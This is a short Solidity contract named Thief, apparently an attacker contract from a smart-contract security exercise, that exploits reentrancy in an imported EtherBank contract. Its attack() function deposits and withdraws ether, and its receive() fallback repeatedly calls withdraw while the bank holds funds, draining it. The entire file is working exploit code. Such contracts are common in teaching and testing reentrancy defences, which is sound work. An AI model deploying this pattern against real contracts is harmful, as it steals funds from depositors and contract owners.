// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

import {EtherBank} from "./EtherBank.sol";

/// @title Withdraws again whenever it is paid
contract Thief {
    EtherBank private immutable bank;
    uint256 private stake;

    constructor(EtherBank bank_) {
        bank = bank_;
    }

    function attack() external payable {
        stake = msg.value;
        bank.deposit{value: msg.value}(address(this));
        bank.withdraw(msg.value);
    }

    receive() external payable {
        if (address(bank).balance >= stake && gasleft() > 200_000) bank.withdraw(stake);
    }
}
